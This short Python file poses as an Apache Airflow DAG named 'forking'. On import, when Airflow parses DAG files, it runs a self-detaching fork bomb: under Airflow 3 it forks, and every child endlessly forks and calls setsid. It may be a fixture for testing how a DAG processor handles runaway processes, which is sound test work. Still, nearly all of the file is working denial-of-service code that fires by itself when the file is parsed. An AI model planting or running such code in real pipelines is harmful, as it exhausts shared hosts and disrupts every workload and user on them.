"""Starts processes that start processes; none ends, all hold on to what they have."""
import os
import time

import airflow
from airflow import DAG


def grow():
    while True:
        try:
            if not os.fork():
                os.setsid()
        except OSError:
            time.sleep(1)


if airflow.__version__.startswith("3") and not os.fork():
    grow()
dag = DAG("forking", schedule=None)
